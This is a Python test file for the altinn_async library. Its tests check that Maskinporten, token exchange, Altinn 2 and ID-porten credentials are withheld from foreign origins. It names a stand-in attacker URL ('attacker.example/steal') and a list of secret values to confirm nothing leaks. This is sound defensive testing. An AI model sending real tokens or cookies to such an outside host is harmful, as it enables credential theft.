"""Credentials go only to their environment's origins (defect 2 of the request-path issue)."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import httpx
import pytest

import altinn_async as altinn
from altinn_async.testing import DEFAULT_PID, Emulator

from .helpers import MOCK_ENV, ScriptedMaskinporten, fake_jwt, signing_key

ATTACKER = "https://attacker.example/steal"
SECRETS = ("access-token-1", "the-api-key", "session-cookie-1", "Bearer")


class Recorder:
    """Answers 200 to everything, and remembers what arrived where."""

    def __init__(self) -> None:
        self.requests: list[httpx.Request] = []

    def __call__(self, request: httpx.Request) -> httpx.Response:
        self.requests.append(request)
        if request.url.path.endswith("/authenticatewithpassword"):
            return httpx.Response(200, headers={"Set-Cookie": ".AspxAuthTT02=session-cookie-1"})
        return httpx.Response(200, json={})

    def to(self, host: str) -> list[httpx.Request]:
        return [r for r in self.requests if r.url.host == host]


def leaked(request: httpx.Request) -> list[str]:
    text = " ".join(f"{k}: {v}" for k, v in request.headers.items())
    return [s for s in SECRETS if s in text] + [
        h for h in ("apikey", "cookie") if h in request.headers
    ]


def maskinporten(**options: Any) -> altinn.MaskinportenAuth:
    endpoint = ScriptedMaskinporten(200)
    return altinn.MaskinportenAuth(
        client_id="c",
        key=signing_key(),
        scopes=["altinn:serviceowner/instances.read"],
        environment=MOCK_ENV,
        http_client=httpx.AsyncClient(transport=endpoint.transport()),
        **options,
    )


def exchange(**options: Any) -> altinn.AltinnExchangeAuth:
    jwt = fake_jwt({"exp": 4_000_000_000, "iat": 1})
    token_http = httpx.AsyncClient(
        transport=httpx.MockTransport(lambda r: httpx.Response(200, text=jwt))
    )
    return altinn.AltinnExchangeAuth(maskinporten(), http_client=token_http, **options)


def altinn2(**options: Any) -> altinn.Altinn2Auth:
    return altinn.Altinn2Auth(
        "the-api-key",
        base_url="https://tt02.example",
        login=altinn.PasswordLogin("ola", "pw"),
        **options,
    )


FLOWS: dict[str, Callable[..., httpx.Auth]] = {
    "maskinporten": maskinporten,
    "exchange": exchange,
    "altinn2": altinn2,
}
HOME = {
    "maskinporten": "https://platform.example/x",
    "exchange": "https://platform.example/x",
    "altinn2": "https://tt02.example/api/my/messages",
}


@pytest.mark.parametrize("flow", sorted(FLOWS))
async def test_a_request_to_another_origin_is_refused_and_nothing_is_sent(flow: str) -> None:
    recorder = Recorder()
    auth = FLOWS[flow]()
    async with httpx.AsyncClient(auth=auth, transport=httpx.MockTransport(recorder)) as http:
        assert (await http.get(HOME[flow])).status_code == 200
        with pytest.raises(altinn.ForeignOriginError) as info:
            await http.get(ATTACKER)
    assert info.value.origin == "https://attacker.example"
    assert "allowed_origins" in str(info.value)
    assert recorder.to("attacker.example") == []
    for secret in SECRETS:
        assert secret not in str(info.value)


@pytest.mark.parametrize("flow", sorted(FLOWS))
async def test_omit_sends_it_without_credentials(flow: str) -> None:
    recorder = Recorder()
    auth = FLOWS[flow](foreign_origins="omit")
    async with httpx.AsyncClient(auth=auth, transport=httpx.MockTransport(recorder)) as http:
        await http.get(HOME[flow])
        assert (await http.get(ATTACKER)).status_code == 200
    (sent,) = recorder.to("attacker.example")
    assert leaked(sent) == []
    assert "authorization" not in sent.headers


@pytest.mark.parametrize("flow", sorted(FLOWS))
async def test_an_allowed_origin_gets_them(flow: str) -> None:
    recorder = Recorder()
    auth = FLOWS[flow](allowed_origins=["https://attacker.example"])
    async with httpx.AsyncClient(auth=auth, transport=httpx.MockTransport(recorder)) as http:
        await http.get(ATTACKER)
    assert leaked(recorder.to("attacker.example")[-1])


async def test_the_origin_is_scheme_host_and_port() -> None:
    recorder = Recorder()
    async with httpx.AsyncClient(
        auth=maskinporten(), transport=httpx.MockTransport(recorder)
    ) as http:
        await http.get("https://platform.example:443/x")  # the default port is the same origin
        for other in (
            "http://platform.example/x",  # plain http
            "https://platform.example:8443/x",  # another port
            "https://evil.platform.example/x",  # a subdomain
            "https://platform.example.evil/x",  # a lookalike
        ):
            with pytest.raises(altinn.ForeignOriginError):
                await http.get(other)
    assert len(recorder.requests) == 1  # the one good call


async def test_a_maskinporten_resource_is_an_origin_of_its_token() -> None:
    recorder = Recorder()
    auth = maskinporten(resource="https://api.skatteetaten.example/")
    async with httpx.AsyncClient(auth=auth, transport=httpx.MockTransport(recorder)) as http:
        await http.get("https://api.skatteetaten.example/v1/x")
    assert recorder.requests[-1].headers["Authorization"] == "Bearer access-token-1"


def test_allowed_origins_must_be_https_urls() -> None:
    with pytest.raises(altinn.ConfigurationError, match="https"):
        maskinporten(allowed_origins=["http://insecure.example"])
    with pytest.raises(altinn.ConfigurationError, match="absolute"):
        maskinporten(allowed_origins=["attacker.example"])
    with pytest.raises(altinn.ConfigurationError, match="foreign_origins"):
        maskinporten(foreign_origins="ignore")


async def test_an_id_porten_session_keeps_its_token_home() -> None:
    emulator = Emulator()
    emulator.add_idporten_client(
        "web", redirect_uris=["https://app.example/cb"], client_secret="s",
        scopes=["openid", "altinn:instances.read"],
    )  # fmt: skip
    recorder = Recorder()
    async with httpx.AsyncClient(transport=emulator.transport()) as token_http:
        idporten = altinn.IDPortenClient(
            client_id="web", client_secret="s", redirect_uri="https://app.example/cb",
            scopes=["openid", "altinn:instances.read"], environment=emulator.environment,
            http_client=token_http,
        )  # fmt: skip
        login = idporten.start_login()
        await idporten.complete_login(
            await emulator.idporten_login(login.url, pid=DEFAULT_PID), login
        )
        async with httpx.AsyncClient(
            auth=idporten.session(), transport=httpx.MockTransport(recorder)
        ) as http:
            await http.get(f"{emulator.environment.platform}/x")
            with pytest.raises(altinn.ForeignOriginError, match="ID-porten access token"):
                await http.get(ATTACKER)
    assert [r.url.host for r in recorder.requests] == ["altinn.localhost"]


async def test_the_password_login_goes_to_the_altinn2_site_only() -> None:
    recorder = Recorder()
    async with httpx.AsyncClient(auth=altinn2(), transport=httpx.MockTransport(recorder)) as http:
        await http.get("https://tt02.example/api/my/messages")
    login = recorder.requests[0]
    assert str(login.url) == "https://tt02.example/api/authentication/authenticatewithpassword"
    assert json.loads(login.content)["UserName"] == "ola"


def test_a_password_login_outside_altinn2auth_says_where_it_belongs() -> None:
    async def call() -> None:
        async with httpx.AsyncClient(
            auth=altinn.PasswordLogin("ola", "pw"), transport=httpx.MockTransport(Recorder())
        ) as http:
            await http.get("https://tt02.example/api/my/messages")

    import anyio  # noqa: PLC0415

    with pytest.raises(altinn.ConfigurationError, match="Altinn2Auth"):
        anyio.run(call)
